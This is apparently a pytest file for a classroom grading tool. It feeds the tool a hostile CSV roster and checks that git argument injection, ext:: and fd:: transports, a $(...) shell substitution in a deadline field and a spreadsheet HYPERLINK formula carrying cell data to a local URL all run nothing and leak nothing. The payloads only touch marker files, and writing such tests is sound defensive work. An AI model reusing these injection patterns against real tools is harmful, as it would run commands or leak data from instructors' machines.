"""A hostile roster through `dockgrade batch`, run under a terminal: nothing runs on the host, nothing waits for
input, no two students merge, and every other student is graded.

One batch grades the whole roster (three gradings of primeiro-build; every other line ends before Docker).
"""

from __future__ import annotations

import csv
import os
import pty
import select
import shutil
import signal
import subprocess
import sys
import time
from dataclasses import dataclass
from pathlib import Path

import docker
import pytest

from dockgrade.batch.roster import folder_name
from dockgrade.core import csv_safe
from tests.git_http import GitHost, bare_copy, basic, git_host
from tests.grading_run import ROOT

TOKEN = "ghp_tokenDaTurma0123456789abcdef"
FORMULA = '=HYPERLINK("http://127.0.0.1/?"&A1,"nota")'
GRADED = {"ana", "ana silva", "ana-silva"}
# Bounds a hang, not a speed: a git waiting at a prompt would never end.
BATCH_SECONDS = 900
NO_CREDENTIALS = "repositório privado ou inexistente (sem credenciais)"


@dataclass
class HostileBatch:
    """The batch's terminal output, exit code, output folder, and what the two git hosts were sent."""

    output: str
    code: int
    out: Path
    root: Path
    private: GitHost
    closed: GitHost

    def rows(self) -> dict[str, dict[str, str]]:
        with (self.out / "summary.csv").open(encoding="utf-8", newline="") as handle:
            return {row["student"]: row for row in csv.DictReader(handle)}


def submission(root: Path) -> Path:
    """A git repository holding only the reference primeiro-build (7 points of section 5)."""
    shutil.copytree(ROOT / "exercises" / "secao5" / "primeiro-build", root / "entrega" / "primeiro-build")
    folder = root / "entrega"
    run = ["git", "-c", "user.email=aluna@example.invalid", "-c", "user.name=aluna"]
    subprocess.run(["git", "init", "-q"], cwd=folder, check=True)
    subprocess.run(["git", "add", "-A"], cwd=folder, check=True)
    subprocess.run([*run, "commit", "-qm", "entrega"], cwd=folder, check=True)
    return folder


def roster_lines(repo: Path, private: str, closed: str, marker: Path) -> list[list[str]]:
    """student, repo, ref, deadline: the hostile lines first (they end at once), the graded ones after."""
    return [
        ["student", "repo", "ref", "deadline"],
        ["privado-401", closed, "", "2099-12-31"],
        ["mallory-upload-pack", str(repo), f"--upload-pack=touch {marker}-1", ""],
        ["mallory-config", str(repo), f"-cprotocol.ext.allow=always -cuploadpack.packObjectsHook=touch {marker}-2", ""],
        ["mallory-ext", f"ext::sh -c touch% {marker}-3", "", ""],
        ["mallory-fd", "fd::17", "", ""],
        ["mallory-repo", f"--upload-pack=touch {marker}-4", "", ""],
        ["mallory-deadline", str(repo), "", f"$(touch {marker}-5)"],
        [FORMULA, str(repo.parent / "nao-existe"), "", ""],
        ["bia", str(repo), "", ""],
        ["bia", str(repo), "main", ""],
        ["ana", private, "", "2099-12-31"],  # the instructor's token opens it (dumb HTTP: a full clone)
        ["ana", private, "", "2099-12-31"],
        ["ana silva", str(repo), "", ""],
        ["ana-silva", str(repo), "", ""],
    ]


@pytest.fixture(scope="module")
def hostile_batch(tmp_path_factory: pytest.TempPathFactory, docker_client: docker.DockerClient) -> HostileBatch:
    """The roster graded by `dockgrade batch` on a pseudo-terminal, as an instructor runs it by hand."""
    root = tmp_path_factory.mktemp("roster-hostil")
    repo = submission(root)
    bare_copy(repo, root / "srv", "privado")
    marker = root / "marca"
    with git_host(root / "srv", basic("x-access-token", TOKEN)) as private, git_host(root / "srv") as closed:
        lines = roster_lines(repo, private.url + "privado.git", closed.url + "privado.git", marker)
        roster = root / "turma.csv"
        with roster.open("w", encoding="utf-8", newline="") as handle:
            csv.writer(handle).writerows(lines)
        command = [sys.executable, "-m", "dockgrade.cli", "batch", str(roster), "--out", str(root / "out")]
        output, code = run_on_terminal(
            [*command, "--section", "5", "--workers", "2"], instructor_environment(root, marker, private.url)
        )
    return HostileBatch(output, code, root / "out", root, private, closed)


def instructor_environment(root: Path, marker: Path, token_url: str) -> dict[str, str]:
    """The grader's environment: a token for one host, and git settings that would ask (each touches a marker)."""
    config = root / "gitconfig"
    config.write_text(f'[credential]\n\thelper = "!touch {marker}-helper"\n[core]\n\taskPass = touch {marker}-core\n')
    return {
        **os.environ,
        "GIT_CONFIG_GLOBAL": str(config),
        "GIT_ASKPASS": f"touch {marker}-askpass",
        "SSH_ASKPASS": f"touch {marker}-ssh-askpass",
        "DOCKGRADE_GIT_TOKEN": TOKEN,
        "DOCKGRADE_GIT_TOKEN_URL": token_url,
    }


def run_on_terminal(argv: list[str], environment: dict[str, str]) -> tuple[str, int]:
    """``argv`` with a pseudo-terminal as its controlling terminal and stdin; nothing is ever typed into it."""
    pid, terminal = pty.fork()
    if pid == 0:  # the child: exec at once
        os.chdir(ROOT)
        os.execve(argv[0], argv, environment)
    chunks: list[bytes] = []
    deadline = time.monotonic() + BATCH_SECONDS
    while time.monotonic() < deadline:
        ready, _, _ = select.select([terminal], [], [], 1)
        try:
            chunk = os.read(terminal, 65536) if ready else b""
        except OSError:  # EIO: the batch closed the terminal (it ended)
            break
        if ready and not chunk:
            break
        chunks.append(chunk)
    else:
        os.kill(pid, signal.SIGKILL)
    os.close(terminal)
    _, status = os.waitpid(pid, 0)
    output = b"".join(chunks).decode(errors="replace")
    assert time.monotonic() < deadline, f"the batch still ran after {BATCH_SECONDS}s (waiting for input?)\n{output}"
    return output, os.waitstatus_to_exitcode(status)


def test_no_line_runs_anything_on_the_host(hostile_batch: HostileBatch) -> None:
    """Option-shaped refs and repos, ext::/fd:: URLs, a shell-shaped deadline, the instructor's helpers: no marker."""
    made = sorted(path.name for path in hostile_batch.root.rglob("marca*"))
    assert made == [], hostile_batch.output


@pytest.mark.parametrize(
    ("student", "message"),
    [
        ("mallory-upload-pack", "linha 3 do roster recusada: a ref '--upload-pack=touch"),
        ("mallory-config", "linha 4 do roster recusada: a ref '-cprotocol.ext.allow=always"),
        ("mallory-ext", "linha 5 do roster recusada: o repositório 'ext::sh -c touch% "),
        ("mallory-fd", "linha 6 do roster recusada: o repositório 'fd::17' usa um transporte não permitido (fd)"),
        ("mallory-repo", "linha 7 do roster recusada: o repositório '--upload-pack=touch"),
        ("mallory-deadline", "linha 8 do roster recusada: o prazo '$(touch"),
        ("bia", "linha 10 do roster recusada: o aluno aparece nas linhas 10, 11 com dados diferentes"),
        ("privado-401", NO_CREDENTIALS),
        (FORMULA, "repositório não encontrado"),
    ],
)
def test_each_refused_line_is_an_error_row_with_its_reason(
    hostile_batch: HostileBatch, student: str, message: str
) -> None:
    """A refused line is that student's error row (summary and feedback) with a plain message."""
    row = hostile_batch.rows()[csv_safe.cell(student)]
    assert row["status"] == "error"
    assert row["error"].startswith(message), row["error"]
    assert message in (hostile_batch.out / "feedback" / f"{folder_name(student)}.md").read_text(encoding="utf-8")


def test_every_other_student_is_graded(hostile_batch: HostileBatch) -> None:
    """The hostile lines cost nobody else: the three good students get primeiro-build's 7 points each."""
    rows = hostile_batch.rows()
    assert len(rows) == 12, rows.keys()  # 14 lines: ana's repeat graded once, bia's two lines one error row
    graded = {student: row["total"] for student, row in rows.items() if row["status"] == "graded"}
    assert graded == dict.fromkeys(GRADED, "7"), hostile_batch.output
    assert hostile_batch.code == 1  # some students are errors


def test_private_repository_fails_at_once_and_nothing_prompts(hostile_batch: HostileBatch) -> None:
    """With a terminal at hand, git asked nothing: the 401 is an error row, and the token never went to that host."""
    assert "Username for" not in hostile_batch.output
    assert "Password for" not in hostile_batch.output
    assert hostile_batch.rows()["privado-401"]["error"] == NO_CREDENTIALS
    assert hostile_batch.closed.authorizations, "the 401 host was never asked"
    assert set(hostile_batch.closed.authorizations) == {None}


def test_token_opens_the_private_repository_and_is_written_nowhere(hostile_batch: HostileBatch) -> None:
    """The instructor's token graded ana's private repository; no report, log, cache or clone holds it."""
    assert basic("x-access-token", TOKEN) in hostile_batch.private.authorizations
    encoded = basic("x-access-token", TOKEN).split()[1]
    assert TOKEN not in hostile_batch.output
    for path in hostile_batch.out.rglob("*"):
        if path.is_file():
            content = path.read_bytes()
            assert TOKEN.encode() not in content, path
            assert encoded.encode() not in content, path


def test_repeats_and_look_alike_names_are_reported_before_anything_runs(hostile_batch: HostileBatch) -> None:
    """Repeated and conflicting lines and names sharing a folder are printed before the first grading."""
    lines = hostile_batch.output.splitlines()
    first_result = next(index for index, line in enumerate(lines) if line.startswith("[1/"))
    notes = [line.strip() for line in lines[:first_result] if line.startswith("roster: ")]
    assert notes == [
        "roster: 'bia': o aluno aparece nas linhas 10, 11 com dados diferentes; deixe uma linha só para ele",
        "roster: 'ana': linha 13 repete a linha 12 (mesmo aluno, mesmo repositório): corrigido uma vez",
        "roster: linhas 14, 15: os alunos 'ana silva', 'ana-silva' ficariam na mesma pasta; cada um tem a sua "
        f"({folder_name('ana silva')}, ana-silva)",
    ]


def test_look_alike_names_keep_their_own_folders(hostile_batch: HostileBatch) -> None:
    """`ana silva` and `ana-silva` are graded into two folders and two feedback files, never merged."""
    folders = {folder_name(student) for student in ("ana silva", "ana-silva")}
    assert len(folders) == 2
    for folder in folders:
        assert (hostile_batch.out / "students" / folder / "report.json").is_file()
        assert (hostile_batch.out / "feedback" / f"{folder}.md").is_file()


def test_formula_shaped_name_is_text_in_the_csv(hostile_batch: HostileBatch) -> None:
    """The name is written with a leading quote (a spreadsheet shows it, never evaluates it); numbers stay numbers."""
    raw = (hostile_batch.out / "summary.csv").read_text(encoding="utf-8")
    assert "\"'=HYPERLINK(" in raw
    assert '\n"=' not in raw
    assert hostile_batch.rows()["ana"]["total"] == "7"
